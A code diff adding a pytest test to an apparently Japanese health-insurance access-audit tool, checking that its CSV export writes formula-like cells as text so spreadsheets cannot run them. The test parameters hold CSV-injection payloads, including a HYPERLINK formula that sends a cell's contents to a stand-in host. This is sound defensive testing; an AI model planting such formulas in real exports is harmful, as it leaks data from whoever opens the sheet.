@@ -257,3 +257,28 @@ def test_a_search_for_an_id_no_record_can_name_is_refused_not_answered_empty(aws
     assert len(who_accessed("P1", TODAY, TODAY, AUDITOR)) == before + 1  # only the search just made
     assert not [r for r in staff_activity("A0001", TODAY, TODAY, AUDITOR) if r["subject_ids"] != ["P1"]
                 and r["subject_ids"] != ["STAFF:A0001"]]
+
+
+@pytest.mark.parametrize("typed", ['=HYPERLINK("https://example.invalid/?"&A1,"詳細")', "+1+cmd", "-2+3",
+                                   "@SUM(1,1)", "\t=1+1", "\r=1+1"])
+def test_the_csv_never_hands_a_spreadsheet_a_formula(aws: EmbeddedAWS, capsys: pytest.CaptureFixture[str],
+                                                      typed: str) -> None:
+    # A reveal refused for a purpose its grant does not name records the purpose as typed; a run's terminal is the
+    # name its execution was started with. Opened in a spreadsheet, the security team's CSV ran such a cell as a
+    # formula (CSV injection: HYPERLINK/WEBSERVICE send the sheet's cells away). Every cell a formula could start
+    # with is written as text, with a leading apostrophe; the JSON keeps the value as recorded.
+    from kokuho.access.staff import Grant, StaffMember, put_grant, put_staff
+
+    record_access(Actor("S0003", "T-KOKUHO-05", typed), ["P1"], "my_number", "reveal", result="denied")
+    put_staff(StaffMember("A0001", "点検 一郎", "情報政策課", date(2020, 4, 1), None))
+    put_grant(Grant("A0001", "G-SEC", "read_access_records", "アクセス記録の点検", "個人情報保護法第66条", "情報政策課",
+                    date(2020, 4, 1), date(2099, 3, 31), "S9001", "2020-04-01T09:00:00+09:00"))
+    for command in (["who-accessed", "P1"], ["staff", "S0003"]):
+        assert cli_main(["audit", *command, "--from", TODAY, "--to", TODAY, "--as", "A0001"]) == 0
+        rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+        cells = [cell for row in rows for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert "'" + typed in cells
+    assert cli_main(["audit", "staff", "S0003", "--from", TODAY, "--to", TODAY, "--as", "A0001",
+                     "--format", "json"]) == 0
+    assert json.loads(capsys.readouterr().out)[0]["purpose"] == typed
